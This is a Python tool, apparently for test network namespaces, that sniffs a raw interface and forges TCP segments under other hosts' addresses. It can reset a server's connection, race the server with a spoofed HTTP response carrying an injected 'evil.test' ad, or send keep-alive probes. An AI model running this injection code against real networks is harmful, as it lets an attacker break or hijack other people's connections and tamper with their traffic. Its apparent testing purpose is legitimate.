"""Somebody on the way who adds TCP segments of their own to a conversation.

    tamper.py reset IF --port P [--after 10] [--ahead 0]    forge a RST of the server
    tamper.py answer IF --port P --length N                 forge the answer to an HTTP request
    tamper.py keep-alive IF --port P                        ask the server for life, with a byte

It listens on an interface and sends there, with the addresses of others.
`reset` counts the server's segments of data and puts a RST after the last,
--ahead bytes further than it should be. `answer` is quicker than the server:
N bytes that look like its answer. `keep-alive` does what the kernels of some
systems do when a connection is idle, and Linux does not: a segment with one
byte, of the number before the next. For namespaces made by these scripts.
"""
import argparse
import select
import socket
import struct

FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
BODY = b"<b>Buy at evil.test!</b>\r\n"


def parse(frame):
    """Return the facts of a TCP segment over IPv4, or None."""
    if frame[12:14] != b"\x08\x00" or frame[23] != 6:
        return None
    total, tcp = struct.unpack("!H", frame[16:18])[0], 14 + (frame[14] & 15) * 4
    sport, dport, seq, ack, offset, flags = struct.unpack("!HHIIBB", frame[tcp:tcp + 14])
    data = frame[tcp + (offset >> 4) * 4:14 + total]
    return {"macs": frame[:12], "src": frame[26:30], "dst": frame[30:34], "sport": sport, "dport": dport,
            "seq": seq, "ack": ack, "flags": flags, "data": data,
            "next": (seq + len(data) + bool(flags & SYN) + bool(flags & FIN)) & 0xFFFFFFFF}


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return struct.pack("!H", ~total & 0xFFFF)


def segment(macs, src, dst, sport, dport, seq, ack, flags, data=b"", ttl=128):
    """Return a whole frame. The TTL is that of a tool which did not think of it."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack, 5 << 4, flags, 502, 0, 0) + data
    tcp = tcp[:16] + checksum(src + dst + struct.pack("!HH", 6, len(tcp)) + tcp) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0x7777, 0, ttl, 6, 0) + src + dst
    ip = ip[:10] + checksum(ip) + ip[12:]
    return macs + b"\x08\x00" + ip + tcp


def forged_answer(length):
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(BODY)}\r\n".encode()
    pad = length - len(head) - len(BODY) - len("X-Pad: \r\n\r\n")
    return head + b"X-Pad: " + b"x" * pad + b"\r\n\r\n" + BODY


class Tamper:
    def __init__(self, options):
        self.options = options
        self.wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
        self.wire.bind((options.interface, 3))
        self.counts, self.done, self.last = {}, set(), None

    def reset(self, seen):
        key = seen["dport"]
        if seen["sport"] != self.options.port or not seen["data"] or key in self.done:
            return
        self.counts[key] = self.counts.get(key, 0) + 1
        if self.counts[key] >= self.options.after:
            self.done.add(key)
            self.wire.send(segment(seen["macs"], seen["src"], seen["dst"], seen["sport"], seen["dport"],
                                   seen["next"] + self.options.ahead, seen["ack"], RST | ACK))

    def answer(self, seen):
        if seen["dport"] != self.options.port or not seen["data"].startswith(b"GET ") or seen["sport"] in self.done:
            return
        self.done.add(seen["sport"])
        macs = seen["macs"][6:] + seen["macs"][:6]
        self.wire.send(segment(macs, seen["dst"], seen["src"], seen["dport"], seen["sport"], seen["ack"], seen["next"],
                               PSH | ACK, forged_answer(self.options.length)))

    def keep_alive(self, seen):
        """Remember the client's last segment; `idle` sends the probe."""
        if seen["dport"] == self.options.port:
            self.last = None if seen["flags"] & (FIN | RST | SYN) else seen

    def idle(self):
        if self.last:
            last = self.last
            self.wire.send(segment(last["macs"], last["src"], last["dst"], last["sport"], last["dport"],
                                   last["next"] - 1, last["ack"], ACK, b"\0", 64))

    def run(self):
        habit = {"reset": self.reset, "answer": self.answer, "keep-alive": self.keep_alive}[self.options.what]
        while True:
            if not select.select([self.wire], [], [], 1)[0]:
                self.idle()
                continue
            # What others send here is seen, too; what this socket sends is not.
            if seen := parse(self.wire.recv(65600)):
                habit(seen)


parser = argparse.ArgumentParser()
parser.add_argument("what", choices=("reset", "answer", "keep-alive"))
parser.add_argument("interface", metavar="IF")
parser.add_argument("--port", type=int, required=True, help="the server's")
parser.add_argument("--after", type=int, default=10, metavar="N", help="segments of data of the server")
parser.add_argument("--ahead", type=int, default=0, metavar="BYTES")
parser.add_argument("--length", type=int, default=155, metavar="N", help="bytes of the forged answer")
Tamper(parser.parse_args()).run()
